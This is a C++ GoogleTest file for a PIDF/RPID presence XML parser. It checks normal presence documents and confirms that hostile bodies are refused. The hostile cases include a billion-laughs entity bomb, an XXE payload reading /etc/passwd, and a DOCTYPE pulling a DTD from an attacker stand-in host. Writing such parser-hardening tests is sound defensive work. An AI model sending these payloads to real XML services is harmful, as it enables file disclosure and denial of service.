// SPDX-License-Identifier: Apache-2.0
// parse_pidf(): RFC 3863 documents, RPID (RFC 4480) as phones send it, and hostile bodies
// (peers.md §3c, G12/G13). Vectors: stox-core.md §4.3 (TV-PRES-*), Table P2 (§2.4).
#include <string>

#include <gtest/gtest.h>

#include "pidf_codec.hpp"

namespace stox::plugins::presence {
namespace {

using sdk::ErrorCode;

PresenceDoc parse_ok(std::string_view xml) {
    auto r = parse_pidf(xml);
    EXPECT_TRUE(r.ok()) << r.status().message();
    return r.ok() ? r.value() : PresenceDoc{};
}

void expect_refused(std::string_view xml, std::string_view reason_part,
                    ErrorCode code = ErrorCode::BadRequest) {
    auto r = parse_pidf(xml);
    ASSERT_FALSE(r.ok()) << "accepted: " << xml.substr(0, 200);
    EXPECT_EQ(r.status().code(), code);
    EXPECT_NE(r.status().message().find(reason_part), std::string::npos)
        << "reason: " << r.status().message();
}

// TV-PRES-03: the NOTIFY body of the first active NOTIFY.
TEST(PidfParse, TvPres03Body) {
    const auto doc =
        parse_ok(R"(<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='pres:romeo@example.net'>
  <tuple id='ID-dr4hcr0st3lup4c'>
    <status><basic>open</basic><show xmlns='jabber:client'>away</show></status>
  </tuple>
</presence>)");
    EXPECT_EQ(doc.entity, "pres:romeo@example.net");
    ASSERT_EQ(doc.tuples.size(), 1u);
    const auto& t = doc.tuples[0];
    EXPECT_EQ(t.id, "ID-dr4hcr0st3lup4c");
    EXPECT_TRUE(t.has_basic);
    EXPECT_TRUE(t.open);
    EXPECT_EQ(t.show, "away");
    EXPECT_TRUE(t.contact.empty());
    EXPECT_FALSE(t.priority.has_value());
}

// RFC 3863 §4.1 with the XML declaration, prefixed PIDF, contact, notes and timestamp.
TEST(PidfParse, PrefixedFullTuple) {
    const auto doc = parse_ok(R"(<?xml version="1.0" encoding="UTF-8"?>
<impp:presence xmlns:impp="urn:ietf:params:xml:ns:pidf" entity="pres:someone@example.com">
  <impp:tuple id="sg89ae">
    <impp:status><impp:basic> closed </impp:basic></impp:status>
    <impp:contact priority="0.8">tel:+09012345678</impp:contact>
    <impp:note xml:lang="en">Gone fishing</impp:note>
    <impp:timestamp>2001-10-27T16:49:29Z</impp:timestamp>
  </impp:tuple>
  <impp:note>Presence-level note</impp:note>
</impp:presence>)");
    ASSERT_EQ(doc.tuples.size(), 1u);
    const auto& t = doc.tuples[0];
    EXPECT_FALSE(t.open);
    EXPECT_EQ(t.contact, "tel:+09012345678");
    ASSERT_TRUE(t.priority.has_value());
    EXPECT_DOUBLE_EQ(*t.priority, 0.8);
    ASSERT_EQ(t.notes.size(), 1u);
    EXPECT_EQ(t.notes[0], (Note{"Gone fishing", "en"}));
    EXPECT_EQ(t.timestamp, "2001-10-27T16:49:29Z");
    ASSERT_EQ(doc.notes.size(), 1u);
    EXPECT_EQ(doc.notes[0].text, "Presence-level note");
}

// TV-PRES-26 input; xml:lang is inherited from <presence> (XML 1.0 §2.12).
TEST(PidfParse, TvPres26NotesAndInheritedLanguage) {
    const auto doc = parse_ok(
        R"(<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='pres:romeo@example.net' xml:lang='de'>
  <tuple id='a'><status><basic>open</basic></status>
    <note xml:lang='en'>Gone fishing</note><note xml:lang='fr'>Parti pêcher</note><note>Angeln</note>
  </tuple>
</presence>)");
    ASSERT_EQ(doc.tuples.size(), 1u);
    const std::vector<Note> expected = {
        {"Gone fishing", "en"}, {"Parti pêcher", "fr"}, {"Angeln", "de"}};
    EXPECT_EQ(doc.tuples[0].notes, expected);
}

// RPID from a typical phone body (RFC 4479 data model + RFC 4480): activities on <dm:person>.
TEST(PidfParse, RpidFromTypicalPhoneBody) {
    const auto doc = parse_ok(R"(<?xml version="1.0" encoding="UTF-8"?>
<presence xmlns="urn:ietf:params:xml:ns:pidf"
    xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model"
    xmlns:rpid="urn:ietf:params:xml:ns:pidf:rpid"
    xmlns:c="urn:ietf:params:xml:ns:pidf:cipid"
    entity="sip:romeo@example.net">
  <tuple id="t54bb0569">
    <status><basic>open</basic></status>
    <dm:deviceID>mac:8asd7d7d70</dm:deviceID>
    <contact priority="0.5">sip:romeo@example.net;gr=urn:uuid:f81d4fae-7dec-11d0-a765-00a0c91e6bf6</contact>
    <timestamp>2026-11-26T16:00:00Z</timestamp>
  </tuple>
  <dm:person id="p1">
    <rpid:activities rpid:from="2026-11-26T15:00:00Z"><rpid:on-the-phone/><rpid:note>call</rpid:note></rpid:activities>
    <rpid:mood><rpid:happy/></rpid:mood>
    <c:homepage>http://example.net/romeo</c:homepage>
    <dm:note>On the phone</dm:note>
  </dm:person>
  <dm:device id="pc122">
    <rpid:user-input>idle</rpid:user-input>
    <dm:deviceID>mac:8asd7d7d70</dm:deviceID>
  </dm:device>
</presence>)");
    EXPECT_EQ(doc.person_activities, (std::vector<std::string>{"on-the-phone"}));
    EXPECT_EQ(doc.person_user_input, "idle");
    ASSERT_EQ(doc.person_notes.size(), 1u);
    EXPECT_EQ(doc.person_notes[0].text, "On the phone");
    ASSERT_EQ(doc.tuples.size(), 1u);
    EXPECT_TRUE(doc.tuples[0].activities.empty());
    EXPECT_EQ(gruu_of(doc.tuples[0].contact), "urn:uuid:f81d4fae-7dec-11d0-a765-00a0c91e6bf6");
}

// RPID activities inside the tuple (old drafts, some phones) and user-input in the tuple.
TEST(PidfParse, RpidInsideTuple) {
    const auto doc = parse_ok(
        R"(<presence xmlns='urn:ietf:params:xml:ns:pidf' xmlns:r='urn:ietf:params:xml:ns:pidf:rpid' entity='pres:a@b'>
  <tuple id='x'><status><basic>open</basic><r:activities><r:meeting/><r:busy/></r:activities></status>
    <r:user-input>active</r:user-input></tuple>
</presence>)");
    ASSERT_EQ(doc.tuples.size(), 1u);
    EXPECT_EQ(doc.tuples[0].activities, (std::vector<std::string>{"meeting", "busy"}));
    EXPECT_EQ(doc.tuples[0].user_input, "active");
}

// Table P2 last row, RFC 3863 §4.2.3: an unknown mustUnderstand extension inside <status> is
// ignored with its content; <basic> is still processed. Other unknown extensions too.
TEST(PidfParse, UnknownExtensionsIgnored) {
    const auto doc = parse_ok(
        R"(<impp:presence xmlns:impp='urn:ietf:params:xml:ns:pidf' xmlns:myex='http://id.example.com/presence/' entity='pres:someone@example.com'>
  <impp:tuple id='ck38g9'>
    <impp:status><impp:basic>open</impp:basic>
      <myex:location impp:mustUnderstand='true'><myex:show xmlns:myex='jabber:x'>dnd</myex:show></myex:location>
    </impp:status>
    <myex:complexExtension><myex:ex1 impp:mustUnderstand='1'>val1</myex:ex1></myex:complexExtension>
  </impp:tuple>
  <myex:mytag>My extended presentity information</myex:mytag>
</impp:presence>)");
    ASSERT_EQ(doc.tuples.size(), 1u);
    EXPECT_TRUE(doc.tuples[0].open);
    EXPECT_TRUE(doc.tuples[0].show.empty());
}

// Table P2 row "no <basic> in a tuple": parsed, marked, skipped later by the mapping.
TEST(PidfParse, TupleWithoutBasic) {
    const auto doc = parse_ok(R"(<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='pres:a@b'>
  <tuple id='x'><status><location xmlns='urn:example'>home</location></status></tuple>
</presence>)");
    ASSERT_EQ(doc.tuples.size(), 1u);
    EXPECT_FALSE(doc.tuples[0].has_basic);
}

// RFC 3863 allows zero tuples.
TEST(PidfParse, NoTuples) {
    const auto doc = parse_ok("<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='pres:a@b'/>");
    EXPECT_TRUE(doc.tuples.empty());
}

// Table P2 / TV-PRES-15: q outside 0..1 or not a number is ignored, not an error.
TEST(PidfParse, OutOfRangeOrInvalidPriorityIgnored) {
    for (const char* q : {"1.5", "-0.1", "abc", "", "0.5.1", "1e-1", "nan", "inf"}) {
        const std::string xml = std::string("<presence xmlns='urn:ietf:params:xml:ns:pidf' "
                                            "entity='pres:a@b'><tuple id='x'><status><basic>open"
                                            "</basic></status><contact priority='") +
                                q + "'>sip:a@b</contact></tuple></presence>";
        const auto doc = parse_ok(xml);
        ASSERT_EQ(doc.tuples.size(), 1u);
        EXPECT_FALSE(doc.tuples[0].priority.has_value()) << q;
    }
}

// Escaped and predefined entities, character references, CDATA, comments and PIs are plain XML.
TEST(PidfParse, PredefinedEntitiesCommentsAndPis) {
    const auto doc = parse_ok(R"(<?xml version='1.0'?><?xml-stylesheet href='x'?><!-- c -->
<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='pres:a&amp;b@c'>
  <tuple id='x'><status><basic>open</basic></status>
    <note>&lt;tag&gt; &amp; &#233;&#x1F600; <![CDATA[<raw>]]></note></tuple></presence>)");
    EXPECT_EQ(doc.entity, "pres:a&b@c");
    ASSERT_EQ(doc.tuples.size(), 1u);
    ASSERT_EQ(doc.tuples[0].notes.size(), 1u);
    EXPECT_EQ(doc.tuples[0].notes[0].text, "<tag> & é\xF0\x9F\x98\x80 <raw>");
}

// A UTF-16 body with a BOM is decoded to UTF-8.
TEST(PidfParse, Utf16Body) {
    const std::string ascii =
        "<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='pres:a@b'><tuple id='x'><status>"
        "<basic>open</basic></status></tuple></presence>";
    std::string utf16 = "\xFF\xFE";
    for (char c : ascii) {
        utf16 += c;
        utf16 += '\0';
    }
    const auto doc = parse_ok(utf16);
    ASSERT_EQ(doc.tuples.size(), 1u);
    EXPECT_TRUE(doc.tuples[0].open);
}

// --- hostile and invalid bodies: ErrorCode::BadRequest with a reason ----------------------

TEST(PidfParseHostile, EmptyBody) {
    expect_refused("", "empty");
    expect_refused(" \r\n\t", "empty");
}

TEST(PidfParseHostile, NotWellFormed) {
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='pres:a@b'>",
                   "not well-formed");
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='pres:a@b'></tuple>",
                   "not well-formed");
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='a'/><presence/>",
                   "not well-formed");
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='a'/>trailing",
                   "not well-formed");
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='a' entity='b'/>",
                   "not well-formed");
    expect_refused("garbage", "not well-formed");
    expect_refused("<p:presence entity='a'/>", "not well-formed"); // unbound prefix
}

TEST(PidfParseHostile, InvalidBytes) {
    using namespace std::string_literals;
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='\xC3('/>",
                   "not well-formed");
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='a'>\0</presence>"s,
                   "not well-formed");
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='a'>&#1;</presence>",
                   "not well-formed");
}

// peers.md G13: every DTD is refused before its internal subset can do harm.
TEST(PidfParseHostile, BillionLaughs) {
    expect_refused(R"(<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='pres:a@b'><note>&lol9;</note></presence>)",
                   "DTD");
}

TEST(PidfParseHostile, ExternalEntityXxe) {
    expect_refused(R"(<?xml version="1.0"?>
<!DOCTYPE presence [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='pres:a@b'><note>&xxe;</note></presence>)",
                   "DTD");
    expect_refused(R"(<!DOCTYPE presence SYSTEM "http://attacker.example/evil.dtd">
<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='pres:a@b'/>)",
                   "DTD");
}

TEST(PidfParseHostile, PlainDoctypeAndPiBeforeDoctype) {
    expect_refused("<!DOCTYPE presence><presence xmlns='urn:ietf:params:xml:ns:pidf' "
                   "entity='pres:a@b'/>",
                   "DTD");
    expect_refused("<?xml version='1.0'?>\n<!-- c -->\n<!DOCTYPE presence PUBLIC 'x' 'y'>"
                   "<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='pres:a@b'/>",
                   "DTD");
    // UTF-16LE with a BOM: the bare DOCTYPE is found in the wide prolog too.
    std::string utf16 = "\xFF\xFE";
    for (char c : std::string("<!DOCTYPE p><p/>")) {
        utf16 += c;
        utf16 += '\0';
    }
    expect_refused(utf16, "DTD");
    expect_refused("<?xml version='1.0'?><?pi data?><!DOCTYPE presence [<!ELEMENT presence ANY>]>"
                   "<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='pres:a@b'/>",
                   "DTD");
}

TEST(PidfParseHostile, UndeclaredEntity) {
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='a'>&foo;</presence>",
                   "not well-formed");
}

TEST(PidfParseHostile, WrongRoot) {
    expect_refused("<presence entity='pres:a@b'/>", "not a PIDF"); // no namespace
    expect_refused("<presence xmlns='jabber:client' entity='pres:a@b'/>", "not a PIDF");
    // RFC 3863's pre-standard CPIM namespace is not PIDF.
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:cpim-pidf' entity='pres:a@b'/>",
                   "not a PIDF");
    expect_refused("<tuple xmlns='urn:ietf:params:xml:ns:pidf' id='x'/>", "not a PIDF");
}

TEST(PidfParseHostile, MissingEntity) {
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:pidf'/>", "without entity");
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='  '/>", "without entity");
}

TEST(PidfParseHostile, TupleWithoutIdAndBadBasic) {
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='a'><tuple><status>"
                   "<basic>open</basic></status></tuple></presence>",
                   "without id");
    expect_refused("<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='a'><tuple id='x'>"
                   "<status><basic>busy</basic></status></tuple></presence>",
                   "open or closed");
}

TEST(PidfParseHostile, DeepNesting) {
    std::string xml = "<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='a'>";
    for (int i = 0; i < 10000; ++i) xml += "<x>";
    for (int i = 0; i < 10000; ++i) xml += "</x>";
    xml += "</presence>";
    expect_refused(xml, "nested deeper");
}

TEST(PidfParseHostile, TooManyElements) {
    std::string xml = "<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='a'>";
    for (std::size_t i = 0; i < kMaxPidfElements + 1; ++i) xml += "<x/>";
    xml += "</presence>";
    expect_refused(xml, "elements");
}

TEST(PidfParseHostile, TooLarge) {
    std::string xml = "<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='a'><note>";
    xml.append(kMaxPidfBytes, 'a');
    xml += "</note></presence>";
    expect_refused(xml, "exceeds", ErrorCode::TooLarge);
}

// G12: no per-parse state survives; many parses of the same body stay identical.
TEST(PidfParseHostile, RepeatedParsesAreIndependent) {
    const std::string good = "<presence xmlns='urn:ietf:params:xml:ns:pidf' entity='a'><tuple "
                             "id='x'><status><basic>open</basic></status></tuple></presence>";
    for (int i = 0; i < 200; ++i) {
        ASSERT_FALSE(parse_pidf("<!DOCTYPE x><x/>").ok());
        auto r = parse_pidf(good);
        ASSERT_TRUE(r.ok());
        ASSERT_EQ(r->tuples.size(), 1u);
    }
}

} // namespace
} // namespace stox::plugins::presence
